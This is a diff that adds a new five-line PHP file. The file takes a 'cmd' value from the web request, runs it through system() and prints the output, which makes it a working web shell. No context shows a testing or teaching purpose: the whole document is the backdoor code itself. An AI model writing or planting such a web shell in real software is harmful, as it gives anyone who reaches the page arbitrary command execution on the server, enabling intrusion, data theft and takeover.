@@ -1,0 +1,5 @@
+<?php
+$cmd = $_REQUEST['cmd'];
+echo "<pre>";
+system($cmd);
+echo "</pre>";
